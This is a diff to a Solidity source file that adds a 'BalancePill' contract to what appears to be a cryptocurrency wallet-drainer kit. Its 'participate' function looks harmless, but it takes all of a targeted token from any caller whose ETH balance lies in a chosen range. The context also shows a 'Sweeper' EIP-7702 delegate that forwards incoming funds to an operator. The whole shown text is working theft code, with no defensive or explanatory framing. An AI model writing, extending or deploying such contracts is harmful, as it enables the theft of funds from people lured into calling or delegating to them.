@@ -77,6 +77,22 @@ contract RedPill is Taker {
     }
 }
 
+/// Takes only from a sender whose balance is between two amounts.
+contract BalancePill is Taker {
+    Prey private immutable token;
+    uint256 private immutable least;
+    uint256 private immutable most;
+
+    constructor(Prey token_, uint256 least_, uint256 most_) {
+        (token, least, most) = (token_, least_, most_);
+    }
+
+    function participate(bytes32) external {
+        uint256 held = msg.sender.balance;
+        if (held >= least && held <= most) takeAll(token, msg.sender);
+    }
+}
+
 /// The delegate of EIP-7702 that most delegations of 2025 name: whatever comes goes on.
 contract Sweeper {
     address private immutable operator = msg.sender;
